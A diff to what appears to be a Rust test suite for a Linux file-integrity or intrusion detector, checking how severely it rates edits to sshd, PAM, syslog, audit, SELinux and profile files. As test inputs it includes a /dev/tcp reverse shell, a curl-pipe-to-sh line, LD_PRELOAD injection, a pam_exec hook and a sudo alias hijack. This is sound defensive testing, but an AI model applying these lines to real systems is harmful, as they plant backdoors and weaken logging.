@@ -322,7 +322,7 @@ fn what_programs_load_and_names_lead_to_is_told() {
         "/root/.bashrc",
         "",
         "alias ls='ls -l'\n",
-        &["persistence.shell medium: What shells run at their start was changed: /root/.bashrc"],
+        &["persistence.shell low: What shells run at their start was changed: /root/.bashrc"],
     );
     check(
         "/etc/modprobe.d/x.conf",
@@ -332,6 +332,131 @@ fn what_programs_load_and_names_lead_to_is_told() {
             "persistence.module medium: Loading a kernel module now runs a command: install usb-storage /bin/sh -c x (/etc/modprobe.d/x.conf)",
         ],
     );
+}
+
+/// An edit of `path` from `before` to `after`: the severity of its finding, and its title.
+fn weighed(path: &str, before: &str, after: &str) -> (Severity, String) {
+    let found =
+        super::super::finding(&edited(path, Some(before.as_bytes()), after.as_bytes()), uuid::Uuid::nil());
+    found.map(|found| (found.severity, found.title)).unwrap()
+}
+
+#[test]
+fn an_edit_that_opens_nothing_is_low_wherever_it_stands() {
+    for (path, before, after) in [
+        ("/etc/ssh/sshd_config", "Port 22\n", "Port 22\n# a remark\n"),
+        ("/etc/ssh/sshd_config", "X11Forwarding no\n", "X11Forwarding yes\n"),
+        ("/etc/ssh/sshd_config", "PermitRootLogin yes\n", "#PermitRootLogin yes\n"),
+        ("/etc/ssh/ssh_config", "Host *\n", "Host *\n  ServerAliveInterval 60\n"),
+        ("/etc/profile", "umask 022\n", "umask 027\nexport EDITOR=vim\n"),
+        ("/etc/bash.bashrc", "x\n", "x\nalias sudo='sudo '\n"),
+        ("/etc/hosts.deny", "", "ALL: 192.0.2.7\n"),
+        ("/etc/hosts.allow", "", "sshd: 192.0.2.0/24\n"),
+        ("/etc/hosts", "127.0.0.1 localhost\n", "127.0.0.1 localhost\n192.0.2.5 db\n"),
+        ("/etc/security/limits.conf", "", "* soft nofile 65536\n"),
+        (
+            "/etc/pam.d/login",
+            "session required pam_limits.so\n",
+            "session required pam_limits.so conf=/etc/l\n",
+        ),
+        ("/etc/pam.d/sshd", "x\n", "# a remark\nx\n"),
+        ("/etc/logrotate.conf", "rotate 4\nweekly\n", "rotate 7\nweekly\n"),
+        ("/etc/rsyslog.conf", "*.* /var/log/messages\n", "*.* -/var/log/messages\n"),
+        ("/etc/systemd/journald.conf", "#SystemMaxUse=\n", "SystemMaxUse=1G\n"),
+        ("/etc/systemd/system.conf", "", "DefaultTimeoutStopSec=30s\n"),
+        ("/etc/systemd/system/x.service", "[Service]\nRestart=no\n", "[Service]\nRestart=always\n"),
+        ("/etc/audit/auditd.conf", "max_log_file = 8\n", "max_log_file = 50\n"),
+        ("/etc/audit/rules.d/x.rules", "-w /etc/passwd -p wa\n", "-w /etc/passwd -p wa -k id\n"),
+        ("/etc/default/grub", "GRUB_TIMEOUT=5\n", "GRUB_TIMEOUT=1\n"),
+        ("/etc/selinux/config", "SELINUX=enforcing\n", "# x\nSELINUX=enforcing\n"),
+        ("/etc/modprobe.d/x.conf", "", "blacklist pcspkr\ninstall usb-storage /bin/false\n"),
+        ("/etc/apt/apt.conf.d/x", "", "APT::Install-Recommends \"0\";\n"),
+        ("/etc/cron.daily/x", "#!/bin/sh\nx\n", "#!/bin/sh\nx --more\n"),
+        ("/etc/init.d/x", "#!/bin/sh\n", "#!/bin/sh\necho\n"),
+        ("/etc/polkit-1/rules.d/x", "x\n", "x\n# y\n"),
+        ("/etc/nginx/nginx.conf", "root /srv;\n", "root /tmp/x;\n"),
+    ] {
+        let (severity, title) = weighed(path, before, after);
+        assert!(severity <= Severity::Low, "{path}: {severity:?} {title}");
+    }
+}
+
+#[test]
+fn an_edit_that_opens_a_door_weighs_as_what_it_opens() {
+    use Severity::{High, Medium};
+    for (path, before, after, severity, words) in [
+        ("/etc/ssh/sshd_config", "PasswordAuthentication no\n", "", Medium, "permits logins by password"),
+        (
+            "/etc/ssh/sshd_config",
+            "PermitRootLogin no\n",
+            "#PermitRootLogin no\n",
+            Medium,
+            "root logins by key",
+        ),
+        ("/etc/profile", "x\n", "x\n/opt/x &\n", Medium, "starts a program"),
+        ("/etc/profile", "x\n", "x\nalias sudo=/opt/x\n", High, "in the place of sudo"),
+        (
+            "/etc/profile",
+            "x\n",
+            "x\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
+            High,
+            "a shell over the network",
+        ),
+        ("/etc/hosts.deny", "ALL: ALL\n", "", Medium, "No longer kept from connecting: ALL: ALL"),
+        ("/etc/hosts.allow", "", "sshd: ALL\n", Medium, "Anybody may connect now"),
+        ("/etc/hosts.allow", "", "sshd: 192.0.2.1: spawn /opt/x\n", High, "sets off a command"),
+        ("/etc/security/access.conf", "-:root:ALL\n", "", Medium, "is gone: -:root:ALL"),
+        (
+            "/etc/pam.d/sshd",
+            "auth required pam_unix.so\n",
+            "auth sufficient pam_unix.so\n",
+            High,
+            "no longer kept out",
+        ),
+        ("/etc/pam.d/sshd", "", "auth optional pam_exec.so /opt/x\n", High, "runs a program on the way"),
+        ("/etc/pam.d/sshd", "", "auth required /opt/pam_x.so\n", High, "module of its own"),
+        ("/etc/pam.d/sshd", "auth required pam_faillock.so\n", "", High, "A line of PAM is gone"),
+        (
+            "/etc/pam.d/sshd",
+            "auth required pam_unix.so\n",
+            "auth required pam_unix.so nullok\n",
+            Medium,
+            "without a password",
+        ),
+        ("/etc/rsyslog.conf", "auth.* /var/log/auth.log\n", "auth.* /dev/null\n", Medium, "Less is logged"),
+        ("/etc/rsyslog.conf", "auth.* /var/log/auth.log\nx\n", "x\n", Medium, "this is gone: auth.*"),
+        ("/etc/systemd/journald.conf", "", "Storage=none\n", Medium, "Less is logged"),
+        ("/etc/audit/auditd.conf", "write_logs = yes\n", "write_logs = no\n", High, "no longer written down"),
+        (
+            "/etc/default/grub",
+            "GRUB_CMDLINE_LINUX=\"\"\n",
+            "GRUB_CMDLINE_LINUX=\"audit=0\"\n",
+            Medium,
+            "started with audit=0",
+        ),
+        ("/etc/selinux/config", "SELINUX=enforcing\n", "SELINUX=disabled\n", High, "forbids nothing"),
+        ("/etc/cron.daily/x", "#!/bin/sh\n", "#!/bin/sh\n/srv/x\n", Medium, "starts a program"),
+        ("/etc/default/x", "", "curl http://192.0.2.1/a | sh\n", High, "fetches a program and runs it"),
+        ("/etc/polkit-1/rules.d/x", "x\n", "y\n", High, "A rule of polkit was changed"),
+        (
+            "/etc/systemd/system.conf",
+            "",
+            "DefaultEnvironment=LD_PRELOAD=/opt/x.so\n",
+            Medium,
+            "loads a library",
+        ),
+    ] {
+        let found = weighed(path, before, after);
+        assert!(found.0 == severity && found.1.contains(words), "{path}: {found:?}");
+    }
+}
+
+#[test]
+fn a_file_that_all_may_write_from_now_on_is_told_beside_a_remark() {
+    let mut opened = edited("/etc/sudoers", Some(b"x ALL=(ALL) ALL\n"), b"x ALL=(ALL) ALL\n# y\n");
+    opened.after.as_mut().unwrap().meta.mode = 0o646;
+    let found = super::super::finding(&opened, uuid::Uuid::nil()).unwrap();
+    assert_eq!(found.severity, Severity::Medium, "{}", found.title);
 }
 
 #[test]
